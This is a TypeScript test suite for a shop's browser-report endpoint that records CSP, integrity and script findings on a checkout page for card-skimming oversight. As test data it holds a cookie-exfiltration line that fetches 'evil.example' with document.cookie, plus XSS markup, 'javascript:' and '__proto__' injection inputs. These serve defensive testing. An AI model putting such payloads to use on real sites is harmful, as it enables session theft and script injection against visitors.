import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { WireEvidence, WireFinding, WireSeen } from '../../src/api/wire-evidence.js';
import { FINDINGS_LIMIT } from '../../src/server/evidence/keep.js';
import { admin, alertsOf, start } from '../support/office.js';
import { codeOf, SHOP, type Answer, type Ask, type TestServer } from '../support/server.js';

const PAGE = `${SHOP}/checkout.html`;
const HASH = 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=';

const REPORTS: Ask = { headers: { 'content-type': 'application/reports+json' } };
const LEGACY: Ask = { headers: { 'content-type': 'application/csp-report' } };

const tell = (
  shop: TestServer,
  findings: readonly Partial<WireSeen>[],
  page = PAGE,
): Promise<Answer<unknown>> => shop.post('/reports', { page, findings });
const evidence = async (shop: TestServer, query = ''): Promise<readonly WireFinding[]> =>
  (await shop.get<WireEvidence>(`/admin/evidence${query}`, admin)).body.findings;
const script = (subject: string, detail = ''): WireSeen => ({ kind: 'script', subject, detail });
const brief = ({ page, kind, subject, detail }: WireFinding): string =>
  [page, kind, subject, detail].join(' ');

/** As Chromium 156 sends them. */
const chromium = (body: object, type = 'csp-violation'): object => ({
  age: 12,
  type,
  url: PAGE,
  user_agent: 'Mozilla/5.0 (X11; Linux x86_64) Chrome/156.0.0.0',
  body,
});

test('PCI-7: takes what Chromium, Firefox and the page watch report, and keeps one row for each thing', async (t) => {
  const shop = await start(t);
  const violation = {
    blockedURL: 'https://evil.example/skim.js?visitor=ana@example.com#x',
    disposition: 'enforce',
    documentURL: `${PAGE}?order=ord_1&token=secret#t`,
    effectiveDirective: 'script-src-elem',
    originalPolicy: "default-src 'none'",
    referrer: 'https://mail.example/inbox',
    sample: 'fetch("https://evil.example/?" + document.cookie)',
    statusCode: 200,
  };
  const answers = [
    await shop.post('/reports', [chromium(violation), chromium({ ...violation, disposition: 'report', blockedURL: 'inline' })], REPORTS),
    await shop.post('/reports', [chromium({ documentURL: PAGE, subresourceURL: `${SHOP}/app.js?v=3`, hash: HASH, destination: 'script', type: 'subresource' }, 'csp-hash')], REPORTS),
    await shop.post('/reports', [chromium({ documentURL: PAGE, blockedURL: 'https://cdn.example/x.js', destination: 'script', reportOnly: true }, 'integrity-violation')], REPORTS),
    // Firefox, and the older form everywhere.
    await shop.post('/reports', { 'csp-report': { 'blocked-uri': 'https://evil.example/skim.js', 'document-uri': PAGE, 'effective-directive': 'script-src-elem', 'violated-directive': 'script-src-elem', 'original-policy': 'x', disposition: 'enforce' } }, { headers: { 'content-type': 'application/csp-report; charset=utf-8' } }),
    await tell(shop, [
      script('https://js.stripe.com/v3/'),
      script('inline', HASH),
      { kind: 'frame', subject: 'https://js.stripe.com/v3/elements-inner.html#mids=1', detail: '' },
      { kind: 'header', subject: 'content-security-policy', detail: "script-src 'nonce-abc' 'self'" },
      { kind: 'concern', subject: 'covered', detail: '' },
    ]),
  ]; // prettier-ignore
  assert.deepEqual(
    answers.map(({ status }) => status),
    [200, 200, 200, 200, 200],
  );
  const found = await evidence(shop);
  assert.deepEqual(found.map(brief), [
    '/checkout.html concern covered ',
    '/checkout.html frame https://js.stripe.com/v3/elements-inner.html ',
    "/checkout.html header content-security-policy script-src 'nonce-…' 'self'",
    '/checkout.html script https://js.stripe.com/v3/ ',
    `/checkout.html script https://shop.test/app.js ${HASH}`,
    `/checkout.html script inline ${HASH}`,
    '/checkout.html violation https://cdn.example/x.js integrity (reported only)',
    '/checkout.html violation https://evil.example/skim.js script-src-elem',
    '/checkout.html violation inline script-src-elem (reported only)',
  ]);
  assert.ok(found.every(({ status, decision }) => status === 'new' && decision === null));
});

test('PCI-7, T-22: nothing of a visitor is kept: no query, fragment, name, number, referrer, sample or browser', async (t) => {
  const shop = await start(t);
  await tell(
    shop,
    [
      script(
        'https://ana:secret@cdn.example/u/ana@example.com/84219763/k3y0a9s8d7f6g5h4j3k2/x.js?mail=ana@example.com#token',
      ),
    ],
    `${SHOP}/orders/1234567/receipt?token=abc`,
  );
  await tell(shop, [{ kind: 'header', subject: 'set-cookie', detail: 'session=4242424242424242' }]);
  await shop.post(
    '/reports',
    [
      chromium({
        documentURL: PAGE,
        blockedURL: 'https://evil.example/4242424242424242',
        effectiveDirective: 'img-src',
        sample: 'ana@example.com',
      }),
    ],
    REPORTS,
  );
  assert.deepEqual((await evidence(shop)).map(brief), [
    '/orders/:id/receipt script https://cdn.example/u/:id/:id/:id/x.js ',
  ]); // prettier-ignore
  const logged = JSON.stringify(shop.logs);
  assert.doesNotMatch(logged, /ana|4242424242424242|secret/);
});

test('PCI-7: what is told a thousand times is one row; every visitor costs the database nothing', async (t) => {
  const shop = await start(t);
  const again = () => tell(shop, [script('https://cdn.example/a.js'), script('https://cdn.example/a.js')]);
  for (let i = 0; i < 20; i++) await again();
  assert.equal((await evidence(shop))[0]?.times, 1);
  shop.advance(600_001);
  await again();
  const [finding] = await evidence(shop);
  // What came in between is told with the next writing; twice in a message that is written counts once.
  assert.equal(finding?.times, 40);
  assert.notEqual(finding.first_seen_at, finding.last_seen_at);
  assert.equal((await evidence(shop)).length, 1);
});

test('PCI-7: junk, markup, other websites’ pages and reports of other kinds leave nothing and break nothing', async (t) => {
  const shop = await start(t);
  for (const [body, ask] of [
    [[], REPORTS],
    [[null, 1, 'x', {}, { body: 'x' }, { type: 'csp-violation', body: {} }], REPORTS],
    [[chromium({ effectiveDirective: '<script>alert(1)</script>', blockedURL: 'x' })], REPORTS],
    [[chromium({ documentURL: 'https://evil.example/', blockedURL: 'https://a.example/', effectiveDirective: 'img-src' })], REPORTS],
    [[chromium({ id: 'x' }, 'deprecation'), chromium({}, 'crash')], REPORTS],
    [{ 'csp-report': { 'document-uri': 'about:blank', 'effective-directive': 'img-src', 'blocked-uri': '' } }, LEGACY],
    [{ page: PAGE, findings: [{ kind: 'cookie', subject: 'x' }, { kind: 'concern', subject: '<b>' }, { kind: 'header', subject: 'X y', detail: 'x' }, { kind: 'script' }] }, {}],
    [{ page: 'not an address', findings: [script('https://a.example/x.js')] }, {}],
  ] as const) {
    const { status } = await shop.post('/reports', body, ask);
    assert.equal(status, 200, JSON.stringify(body));
  } // prettier-ignore
  assert.deepEqual(await evidence(shop), []);
  // Markup in what is an address is an address still, and marks that turn a text around are gone.
  await tell(shop, [script('https://evil.example/<img src=x onerror=alert(1)>\u202e.js')]);
  assert.doesNotMatch((await evidence(shop))[0]?.subject ?? '', /[<>\u202e]/);
});

test('PCI-7, T-27: too much is refused, before it is read; and what is no JSON, or of another kind', async (t) => {
  const shop = await start(t);
  const big = 'x'.repeat(10_000_000);
  for (const [body, type, status, code] of [
    [big, 'application/reports+json', 413, 'too_large'],
    ['<html>', 'application/csp-report', 400, 'request_invalid'],
    ['[]', 'text/plain', 415, 'request_invalid'],
    ['[]', 'multipart/form-data', 415, 'request_invalid'],
    ['[{"__proto__": {}}]', 'application/reports+json', 400, 'request_invalid'],
  ] as const) {
    const answer = await shop.send('POST', '/reports', body, { headers: { 'content-type': type } });
    assert.deepEqual([answer.status, codeOf(answer)], [status, code], body.slice(0, 20));
  }
  const foreign = await shop.post('/reports', [], { ...REPORTS, origin: 'https://evil.example' });
  assert.deepEqual([foreign.status, codeOf(foreign)], [403, 'origin_refused']);
  // Browsers' own senders may have no Origin.
  assert.equal((await shop.post('/reports', [], { ...REPORTS, origin: null })).status, 200);
});

test('PCI-7: one client tells only so much a minute', async (t) => {
  const shop = await start(t, {
    clients: true,
    options: { limits: { reports: { limit: 3, windowMs: 60_000 } } },
  });
  const statuses: number[] = [];
  for (let i = 0; i < 5; i++) statuses.push((await shop.post('/reports', [], { from: '81.2.3.7' })).status);
  assert.deepEqual(statuses, [200, 200, 200, 429, 429]);
  assert.equal((await shop.post('/reports', [], { from: '81.2.3.8' })).status, 200);
});

test('PCI-5: a script is approved with a reason by a name; what is decided stays in the books, and a changed script is new', async (t) => {
  const shop = await start(t);
  await tell(shop, [script('https://cdn.example/a.js', HASH), script('https://cdn.example/b.js')]);
  const [a, b] = await evidence(shop, '?kind=script');
  assert.ok(a && b);
  assert.deepEqual(await alertsOf(shop), [], 'before anything is approved, all is new and nothing is news');
  const decide = (id: string, body: object) => shop.post(`/admin/evidence/${id}/decision`, body, admin);
  const yes = { decision: 'approved', reason: 'Our own analytics.', by: 'Mara' };
  assert.equal((await decide(a.id, yes)).status, 200);
  shop.advance(1000);
  assert.equal((await decide(b.id, { ...yes, decision: 'rejected', reason: 'Nobody knows it.' })).status, 200);
  shop.advance(1000);
  assert.equal((await decide(a.id, { ...yes, reason: 'Analytics, checked again.' })).status, 200);
  const [approved] = await evidence(shop, '?status=approved');
  assert.deepEqual(approved?.decision, {
    decision: 'approved',
    reason: 'Analytics, checked again.',
    by: 'Mara',
    at: new Date(shop.now()).toISOString(),
  });
  const kept = await shop.database.db.selectFrom('finding_decisions').selectAll().execute();
  assert.equal(kept.length, 3);
  for (const bad of [{}, { ...yes, reason: '' }, { ...yes, by: ' ' }, { ...yes, decision: 'maybe' }, { ...yes, reason: 'x'.repeat(501) }])
    assert.equal((await decide(a.id, bad)).status, 400);
  assert.equal((await decide('nothing', yes)).status, 404);
  assert.equal((await shop.get('/admin/evidence?kind=x', admin)).status, 400);

  const changed = HASH.replace('47', '48');
  for (let i = 0; i < 3; i++) {
    await tell(shop, [script('https://cdn.example/a.js', changed)]);
    shop.advance(3_600_000);
  }
  const alerts = await alertsOf(shop);
  assert.deepEqual(
    alerts.map(({ code, reasons }) => [code, reasons]),
    [['script_unapproved', ['https://cdn.example/a.js on /checkout.html']]],
  );
}); // prettier-ignore

test('PCI-6: a header that changes or goes after it was approved is told to the merchant', async (t) => {
  const shop = await start(t);
  const header = (detail: string): WireSeen => ({
    kind: 'header',
    subject: 'strict-transport-security',
    detail,
  });
  await tell(shop, [header('max-age=31536000')]);
  const [known] = await evidence(shop);
  await tell(shop, [header('max-age=1')]);
  assert.deepEqual(await alertsOf(shop), [], 'nothing was approved yet');
  const yes = { decision: 'approved', reason: 'As our host sends it.', by: 'Mara' };
  await shop.post(`/admin/evidence/${known?.id ?? ''}/decision`, yes, admin);
  await tell(shop, [header('max-age=31536000')]);
  assert.deepEqual(await alertsOf(shop), []);
  await tell(shop, [header('')], `${SHOP}/other.html`);
  assert.deepEqual(await alertsOf(shop), [], 'another page');
  await tell(shop, [header('')]);
  assert.deepEqual(
    (await alertsOf(shop)).map(({ code, reasons }) => [code, reasons]),
    [['header_changed', ['strict-transport-security on /checkout.html']]],
  );
});

test('a concern around the card form is told to the merchant at once, and once', async (t) => {
  const shop = await start(t);
  for (let i = 0; i < 3; i++) {
    await tell(shop, [{ kind: 'concern', subject: 'covered', detail: '' }]);
    shop.advance(3_600_000);
  }
  assert.deepEqual(
    (await alertsOf(shop)).map(({ code, reasons }) => [code, reasons]),
    [['card_form_concern', ['covered on /checkout.html']]],
  );
});

test('PCI-7: made-up reports fill no disk, and push out nothing that was decided on', async (t) => {
  const shop = await start(t);
  await tell(shop, [script('https://cdn.example/good.js')]);
  const [good] = await evidence(shop);
  await shop.post(`/admin/evidence/${good?.id ?? ''}/decision`, { decision: 'approved', reason: 'Ours.', by: 'M' }, admin);
  const made = Array.from({ length: FINDINGS_LIMIT }, (_, i) => ({
    ...{ id: `made-${i}`, page: '/', kind: 'violation' as const, subject: `https://x.example/${i}`, detail: 'img-src' },
    ...{ first_at: shop.now(), last_at: shop.now(), times: 1, status: 'new' as const },
  }));
  for (let i = 0; i < made.length; i += 500)
    await shop.database.db.insertInto('findings').values(made.slice(i, i + 500)).execute();
  await tell(shop, [script('https://cdn.example/new.js')]);
  assert.equal((await evidence(shop)).some(({ subject }) => subject.endsWith('/new.js')), false, 'all of it is fresh');
  shop.advance(3_600_000);
  await tell(shop, [script('https://cdn.example/new.js')]);
  const found = await evidence(shop);
  assert.ok(found.length < FINDINGS_LIMIT);
  for (const name of ['good', 'new']) assert.ok(found.some(({ subject }) => subject.endsWith(`/${name}.js`)), name);
  assert.deepEqual((await alertsOf(shop)).filter(({ code }) => code === 'evidence_full').length, 1);
}); // prettier-ignore

test('PCI-7: whatever is sent, the answer is one the contract knows, and what is kept has no query and no card number', async (t) => {
  const shop = await start(t);
  const junk = fc.oneof(
    fc.jsonValue({ maxDepth: 3 }),
    fc.record({ page: fc.constantFrom(PAGE, SHOP, 'x'), findings: fc.array(fc.record({ kind: fc.constantFrom('script', 'frame', 'header', 'violation', 'concern'), subject: fc.oneof(fc.webUrl({ withQueryParameters: true, withFragments: true }), fc.string({ unit: 'binary' })), detail: fc.string() })) }),
    fc.array(fc.record({ type: fc.constantFrom('csp-violation', 'csp-hash', 'integrity-violation'), url: fc.constant(PAGE), body: fc.record({ documentURL: fc.constantFrom(PAGE, ''), blockedURL: fc.webUrl({ withQueryParameters: true }), subresourceURL: fc.webUrl(), hash: fc.string(), effectiveDirective: fc.string() }) })),
  ); // prettier-ignore
  await fc.assert(
    fc.asyncProperty(junk, async (body) => {
      const { status } = await shop.post('/reports', body, REPORTS);
      assert.ok([200, 400, 422].includes(status), String(status));
    }),
    { numRuns: 200 },
  );
  for (const { subject, page, kind } of await evidence(shop))
    if (kind !== 'header') assert.doesNotMatch(`${subject} ${page}`, /[?#]|4242424242424242/);
});

test('PCI-5: who added a script is kept without anything of a visitor, the last that told it counts', async (t) => {
  const shop = await start(t);
  const added = async (by: string): Promise<readonly (string | undefined)[]> => {
    await tell(shop, [{ ...script('https://tags.example/pixel.js', HASH), added_by: by }]);
    return (await evidence(shop)).map((each) => each.added_by);
  };
  assert.deepEqual(await added(''), [undefined]);
  shop.advance(700_000);
  assert.deepEqual(await added('https://tags.example/gtm.js?visitor=ana@example.com'), [
    'https://tags.example/gtm.js',
  ]);
  shop.advance(700_000);
  assert.deepEqual(await added('javascript:alert(1)'), ['javascript'], 'a scheme alone');
  shop.advance(700_000);
  assert.deepEqual(await added(''), ['javascript'], 'not forgotten by one who does not know');
  shop.advance(700_000);
  assert.deepEqual(await added('inline'), ['inline']);
});
